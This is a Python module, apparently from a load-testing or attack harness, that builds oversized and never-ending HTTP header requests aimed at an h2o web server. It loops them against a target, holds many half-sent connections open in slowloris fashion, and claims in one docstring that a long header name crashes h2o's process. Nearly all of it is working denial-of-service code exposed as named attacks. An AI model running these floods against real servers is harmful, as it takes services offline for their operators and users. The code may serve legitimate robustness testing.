"""Headers that are too long, too many or without an end."""

from hold import hold

NAME = 60000
# Just below what h2o reads of a header before it refuses it (some 400 kB).
MOST = 380000


def many(n=5000):
    return b"".join(b"X-%d: %d\r\n" % (number, number) for number in range(n))


BOMBS = {
    "many": b"POST /authenticate HTTP/1.1\r\nHost: a\r\n" + many() + b"\r\n",
    "long name": b"POST /authenticate HTTP/1.1\r\nHost: a\r\n" + b"x" * NAME + b": 1\r\n\r\n",
    "long value": b"POST /authenticate HTTP/1.1\r\nHost: a\r\nX: " + b"y" * MOST + b"\r\n\r\n",
    "endless": b"POST /authenticate HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 200000,
    "long path": b"POST /" + b"p" * MOST + b" HTTP/1.1\r\nHost: a\r\n\r\n",
    "long method": b"M" * MOST + b" / HTTP/1.1\r\nHost: a\r\n\r\n",
    "folded": b"POST /authenticate HTTP/1.1\r\nHost: a\r\nX: y\r\n" + b" z\r\n" * 10000 + b"\r\n",
    "cookies": b"POST /authenticate HTTP/1.1\r\nHost: a\r\n" + b"Cookie: a=b\r\n" * 99 + b"\r\n",
}


def bomb(target, data, port=None):
    sock = target.connect(port)
    if sock is None:
        return
    sent = target.send(sock, data)
    target.hear(sock, 2.0 if sent else 0.5)


def header_bombs(target):
    """Every kind in turn."""
    port, turn = target.get("at", None), 0
    kinds = list(BOMBS.values())
    while not target.is_over():
        bomb(target, kinds[turn % len(kinds)], port)
        turn += 1


def long_names(target):
    """A header name of 1 kB to 380 kB: on a small stack h2o's copy of it ends the process."""
    lengths = [1000, 8000, 16000, 60000, 130000, 260000, MOST]
    turn = 0
    while not target.is_over():
        bomb(target, b"POST /authenticate HTTP/1.1\r\nHost: a\r\n" + b"X" * lengths[turn % len(lengths)] + b": 1\r\n\r\n",
             target.get("at", None))
        turn += 1


def held_headers(target):
    """n headers just below the limit, whole but for their end, and held."""
    port = target.get("at", None)
    data = b"POST /authenticate HTTP/1.1\r\nHost: a\r\nX: " + b"y" * MOST
    opened = []
    while len(opened) < target["n"] and not target.is_over():
        sock = target.connect(port)
        if sock is not None and target.send(sock, data):
            opened.append(sock)
        elif sock is not None:
            target.hear(sock, 0.5)
    hold(target, opened)


ATTACKS = {"header-bombs": header_bombs, "long-names": long_names, "held-headers": held_headers}
